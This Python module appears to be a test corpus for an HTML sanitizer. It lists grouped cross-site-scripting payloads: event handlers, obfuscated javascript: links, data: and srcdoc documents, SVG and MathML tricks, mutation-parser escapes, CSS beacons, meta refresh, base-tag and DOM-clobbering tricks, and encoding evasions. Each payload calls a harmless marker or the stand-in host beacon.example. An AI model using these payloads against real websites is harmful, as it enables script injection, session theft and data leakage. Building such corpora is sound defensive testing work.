"""Markup that tries to run a script in, or to call home from, the page that shows it.

``RUN`` becomes a call that tells the judge who ran; ``BEACON`` an address that nothing but a payload
would ask for. Pictures and media have addresses of their own hosts: those may be asked for.
"""

# ruff: noqa: E501 (a payload a line)
from __future__ import annotations

from base64 import b64encode

PICTURES = "http://pictures.example"
BEACON = "http://beacon.example"

_FAMILIES: dict[str, tuple[str, ...]] = {
    "handlers": (
        "<img src=x onerror=RUN>",
        "<img src='x' ONERROR='RUN'>",
        "<img/src=x/onerror=RUN>",
        "<img src=x onerror\n=\nRUN>",
        "<img src=x onerror\x0c=RUN>",
        "<img src=x a='>' onerror=RUN>",
        "<p onclick=RUN onmouseover=RUN onfocus=RUN tabindex=1>words</p>",
        "<details open ontoggle=RUN><summary>s</summary>t</details>",
        "<video src=x onerror=RUN></video><audio src=x onerror=RUN></audio>",
        "<video><source onerror=RUN src=x></video>",
        "<body onload=RUN><body onpageshow=RUN>",
        "<input autofocus onfocus=RUN><select autofocus onfocus=RUN></select>",
        "<marquee onstart=RUN>words</marquee>",
        "<iframe onload=RUN></iframe>",
        "<style onload=RUN></style><link rel=stylesheet href=x onerror=RUN>",
        "<object data=x onerror=RUN></object><embed src=x onerror=RUN>",
        "<a href=# onclick=RUN>words</a><button onclick=RUN>words</button>",
        "<style>@keyframes k{from{top:0}}</style><p style='animation:k 1s' onanimationstart=RUN>words</p>",
        "<xss onpointerover=RUN onmouseover=RUN>words</xss>",
        "<div contenteditable onbeforeinput=RUN onmouseover=RUN>words</div>",
        "<img src=x onerror='&#114;an&lpar;N)'>",
    ),
    "scripts": (
        "<script>RUN</script>",
        "<SCRIPT >RUN</SCRIPT >",
        "<script/x>RUN</script>",
        "<script src='BEACON/s.js'></script>",
        "<script src='data:text/javascript,RUN'></script>",
        "<script type=module>RUN</script>",
        "<scr<script>ipt>RUN</scr</script>ipt>",
        "<<script>RUN//<</script>",
        "<script\x00>RUN</script>",
        "<script>/*<!--*/RUN/*--></script>*/</script>",
        "<script>RUN",
        "<link rel=import href='BEACON/i'><link rel=preload as=script href='BEACON/p'><link rel=modulepreload href='BEACON/m'>",
    ),
    "addresses that run": (
        "<a href='javascript:RUN'>words</a>",
        "<a href='JaVaScRiPt:RUN'>words</a>",
        "<a href=' \x01javascript:RUN'>words</a>",
        "<a href='java\tscript:RUN'>words</a>",
        "<a href='java&#10;script:RUN'>words</a>",
        "<a href='java&NewLine;script&colon;RUN'>words</a>",
        "<a href='&#x6a;&#x61;vascript&#58;RUN'>words</a>",
        "<a href='&#0000106avascript:RUN'>words</a>",
        "<a href='javascript://x.example/%0aRUN'>words</a>",
        "<a href='http:javascript:RUN'>words</a><a href='https://e.example@javascript:RUN'>words</a>",
        "<a href='feed:javascript:RUN'>words</a><a href='view-source:javascript:RUN'>words</a>",
        "<a href='mailto:x@y.example\njavascript:RUN'>words</a>",
        "<a href='\u200bjavascript:RUN'>words</a><a href='\u202ejavascript:RUN'>words</a>",
        "<a href='ja\x00vascript:RUN'>words</a>",
        "<iframe src='javascript:RUN'></iframe>",
        "<iframe src='java&#9;script:parent.RUN'></iframe>",
        "<form action='javascript:RUN'><input type=submit></form>",
        "<form><button formaction='javascript:RUN'>words</button></form>",
        "<form id=f></form><button form=f formaction='javascript:RUN'>words</button>",
        "<form><input type=image src=x formaction='javascript:RUN'></form>",
        "<map name=m><area href='javascript:RUN'></map><img usemap=#m src=PICTURES/m.png>",
        "<object data='javascript:RUN'></object><embed src='javascript:RUN'>",
        "<img src='javascript:RUN'><img lowsrc='javascript:RUN' dynsrc='javascript:RUN'>",
        "<img srcset='javascript:RUN 1x, javascript:RUN 2x'><picture><source srcset='javascript:RUN'><img src=PICTURES/p.png></picture>",
        "<video poster='javascript:RUN' src='javascript:RUN'></video><audio src='javascript:RUN'></audio>",
        "<body background='javascript:RUN'><table background='javascript:RUN'><tr><td background='javascript:RUN'>words</table>",
        "<blockquote cite='javascript:RUN'>words</blockquote><q cite='javascript:RUN'>words</q><ins cite='javascript:RUN'>w</ins>",
        "<img longdesc='javascript:RUN' src=PICTURES/l.png><html manifest='javascript:RUN'>",
        "<a href='vbscript:RUN'>words</a><a href='livescript:RUN'>w</a><a href='mocha:RUN'>w</a>",
        "<a ping='BEACON/ping' href='http://site.example/'>words</a>",
    ),
    "documents in addresses": (
        "<iframe src='data:text/html,<script>parent.RUN</script><script>RUN</script>'></iframe>",
        "<iframe src='data:text/html;base64,BASE64'></iframe>",
        "<iframe srcdoc='<script>RUN</script>'></iframe>",
        "<iframe srcdoc='&lt;img src=x onerror=RUN&gt;' src='https://www.youtube.com/embed/x'></iframe>",
        "<object data='data:text/html,<script>RUN</script>'></object>",
        "<embed src='data:text/html,<script>RUN</script>'>",
        "<a href='data:text/html,<script>RUN</script>' target=_self>words</a>",
        "<img src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22RUN%22/>'>",
        "<object data='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><script>RUN</script></svg>'></object>",
        "<iframe src='BEACON/frame.html'></iframe><frameset><frame src='BEACON/frame'></frameset>",
        "<portal src='BEACON/portal'></portal><fencedframe src='BEACON/fenced'></fencedframe>",
        "<applet code='x' codebase='BEACON/'></applet><param name=src value='javascript:RUN'>",
    ),
    "svg and math": (
        "<svg onload=RUN></svg>",
        "<svg><script>RUN</script></svg>",
        "<svg><script href='data:text/javascript,RUN'/></svg>",
        "<svg><script xlink:href='data:text/javascript,RUN'/></svg>",
        "<svg><a xlink:href='javascript:RUN'><text x=20 y=20>words</text></a></svg>",
        "<svg><a><animate attributeName=href values='javascript:RUN' dur=1s repeatCount=indefinite /><text x=20 y=20>words</text></a></svg>",
        "<svg><set onbegin=RUN attributeName=x to=1></svg>",
        "<svg><animate onbegin=RUN attributeName=x dur=1s>",
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=RUN></svg>#x'></svg>",
        "<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload=RUN><img src=x onerror=RUN></body></foreignObject></svg>",
        "<svg><image href=x onerror=RUN></svg><svg><image xlink:href='BEACON/image.svg'></svg><svg><feImage href='BEACON/fe'/></svg>",
        "<svg><style>@import 'BEACON/svg.css';</style></svg>",
        "<svg><desc><img src=x onerror=RUN></desc><title><img src=x onerror=RUN></title></svg>",
        "<math><mi xlink:href='javascript:RUN' href='javascript:RUN'>words</mi></math>",
        "<math><mtext><img src=x onerror=RUN></mtext><annotation-xml encoding='text/html'><img src=x onerror=RUN></annotation-xml></math>",
        "<math><maction actiontype='statusline#BEACON' xlink:href='javascript:RUN'>words</maction></math>",
    ),
    "mutation": (
        "<noscript><p title='</noscript><img src=x onerror=RUN>'></noscript>",
        "<noscript><style></noscript><img src=x onerror=RUN></style></noscript>",
        "<template><img src=x onerror=RUN></template><p title='</template><img src=x onerror=RUN>'>",
        "<style><img title='</style><img src=x onerror=RUN>'></style>",
        "<svg><style><img src='</style><img src=x onerror=RUN>'></svg>",
        "<svg></p><style><a title='</style><img src=x onerror=RUN>'>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=RUN&gt;'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
        "<math><mtext><table><mglyph><style><math><img src=x onerror=RUN></style></table>",
        "<svg><p><style><g title='</style><img src=x onerror=RUN>'>",
        "<textarea><p title='</textarea><img src=x onerror=RUN>'></textarea>",
        "<title><p title='</title><img src=x onerror=RUN>'></title>",
        "<xmp><p title='</xmp><img src=x onerror=RUN>'></xmp>",
        "<noembed><p title='</noembed><img src=x onerror=RUN>'></noembed><noframes><p title='</noframes><img src=x onerror=RUN>'></noframes>",
        "<iframe><p title='</iframe><img src=x onerror=RUN>'></iframe>",
        "<select><iframe></select><img src=x onerror=RUN></iframe><option><style></option></select><img src=x onerror=RUN></style>",
        "<!--><img src=x onerror=RUN>-->",
        "<!---><img src=x onerror=RUN>--><!-- --!><img src=x onerror=RUN>",
        "<!-- x --!><img src=x onerror=RUN> -->",
        "<![CDATA[<img src=x onerror=RUN>]]><svg><![CDATA[><img src=x onerror=RUN>]]></svg>",
        "<?xml version='1.0'?><?php <img src=x onerror=RUN> ?><!DOCTYPE <img src=x onerror=RUN>",
        "<table><caption><svg><caption><style></table><img src=x onerror=RUN></style>",
        "<p title='&lt;/p>&lt;img src=x onerror=RUN>'>words</p><a title=\"`<img src=x onerror=RUN>`\">w</a>",
        "<noscript><img src=x on<noscript>error=RUN></noscript>",
        "<nosc<noscript>ript><scr<noscript>ipt>RUN</scr</noscript>ipt>",
        "&lt;img src=x onerror=RUN&gt;&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;",
        "<iframe src='https://x.example/\"><img src=x onerror=RUN>'></iframe>",
        "<iframe src='https://x.example/&quot;><svg onload=RUN>' title='\"><img src=x onerror=RUN>'></iframe>",
        "<iframe data-src='https://x.example/&lt;img src=x onerror=RUN&gt;'></iframe>",
        "<img data-src='x\" onerror=\"RUN' src=x><img data-original='x&quot; onerror=&quot;RUN' alt='\" onerror=\"RUN'>",
        "<img srcset='x\" onerror=\"RUN 1x' src='PICTURES/blank.gif' data-src='PICTURES/y.png' title='> onerror=RUN'>",
    ),
    "styles": (
        "<style>@import 'BEACON/a.css'; body{background:url(BEACON/b)}</style>words",
        "<p style='background:url(BEACON/c)'>words</p>",
        "<p style='background:u\\72l(BEACON/d);list-style-image:url(BEACON/e)'>words</p>",
        "<p style='width:expression(RUN);behavior:url(BEACON/f);-moz-binding:url(BEACON/g)'>words</p>",
        "<link rel=stylesheet href='BEACON/h.css'><link rel=icon href='BEACON/i.ico'>",
        "<p style='position:fixed;inset:0;z-index:9;cursor:url(BEACON/j),auto'>covers everything</p>",
        "<font face='x;background:url(BEACON/k)' color=red>words</font><body bgcolor=red background='BEACON/l'>",
        "<style>p{content:'</style><img src=x onerror=RUN>'}</style>",
        "<style>@font-face{font-family:x;src:url(BEACON/m)}p{font-family:x}</style><p>words",
    ),
    "the page itself": (
        "<meta http-equiv=refresh content='0;url=BEACON/refresh'>",
        "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
        "<meta http-equiv=refresh content='0;url=data:text/html,<script>RUN</script>'>",
        "<meta http-equiv=content-security-policy content='img-src *'><meta name=referrer content=unsafe-url>",
        "<base href='BEACON/base/'><img src=relative.png><a href=relative>words</a>",
        "<base target=_blank><base href='javascript:RUN//'><a href='#'>words</a>",
        "</article></main></body></html><script>RUN</script>",
        "</title></head><body><script>RUN</script>",
        "\"><script>RUN</script><a title=\"",
        "'><img src=x onerror=RUN><a title='",
        "\" onmouseover=\"RUN\" autofocus onfocus=\"RUN\" tabindex=\"1",
        "' onmouseover='RUN' autofocus onfocus='RUN' x='",
        "]]></content></entry></feed><script xmlns='http://www.w3.org/1999/xhtml'>RUN</script>",
        "<plaintext>words<script>RUN</script>",
        "<form action='BEACON/form'><input name=q value=secret><input type=submit></form>",
        "<dialog open><form method=dialog><button>words</button></form></dialog><keygen autofocus onfocus=RUN>",
    ),
    "names that hide the page's own": (
        "<img name=cookie src=PICTURES/1.png><img name=body src=PICTURES/2.png><form name=getElementById><input name=children></form>",
        "<a id=ran></a><a id=ran name=call href='BEACON/x'></a><iframe name=self srcdoc=''></iframe>",
        "<form id=document><input name=cookie></form><output id=location>x</output><object name=querySelectorAll></object>",
    ),
    "encodings": (
        "+ADw-script+AD4-RUN+ADw-/script+AD4-",
        "%3Cscript%3ERUN%3C/script%3E",
        "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
        "\ufeff<script>RUN</script>\u2028<img src=x onerror=RUN>",
        "\uff1cscript\uff1eRUN\uff1c/script\uff1e",
        "&#60;script&#62;RUN&#60;/script&#62; &#x3c;img src=x onerror=RUN&#x3e;",
        "\u202e<img src=x onerror=RUN>\u2066\u202d",
        "\x1b$B<script>RUN</script>\x1b(B \x8f<img src=x alt='\xe0' onerror=RUN>",
        "<im\x00g src=x onerror=RUN><img\x00src=x onerror=RUN><img src=x on\x00error=RUN>",
        "{{constructor.constructor('RUN')()}}${RUN}<%= RUN %>{% RUN %}",
    ),
    "left open": (
        "<img src=x onerror=RUN",
        "<img src=x onerror=RUN //",
        "<a href=\"http://site.example/<img src=x onerror=RUN>",
        "<p title=\"<img src=x onerror=RUN>",
        "<div title='</div><img src=x onerror=RUN>",
        "<b><i><u><a href='http://site.example/'><table><td><ruby><rt><script>RUN",
        "<img src='PICTURES/q.png\"\"><img src=x onerror=RUN>",
        "</p></div></div></article><img src=x onerror=RUN>",
        "<img alt=`<img src=x onerror=RUN>`src=PICTURES/r.png>",
        "<svg><style><![CDATA[</style><img src=x onerror=RUN>]]>",
    ),
}  # fmt: skip


def _filled(payload: str, number: int) -> str:
    run = f"ran({number})"
    payload = payload.replace("BASE64", b64encode(f"<script>{run}</script>".encode()).decode())
    payload = payload.replace("RUN", run).replace("&lpar;N", f"&lpar;{number}")
    return payload.replace("PICTURES", PICTURES).replace("BEACON", f"{BEACON}/{number}")


PAYLOADS: tuple[str, ...] = tuple(
    _filled(payload, number)
    for number, payload in enumerate(one for family in _FAMILIES.values() for one in family)
)


def families() -> dict[str, range]:
    """The numbers of each family's payloads."""
    found, at = {}, 0
    for name, payloads in _FAMILIES.items():
        found[name] = range(at, at + len(payloads))
        at += len(payloads)
    return found
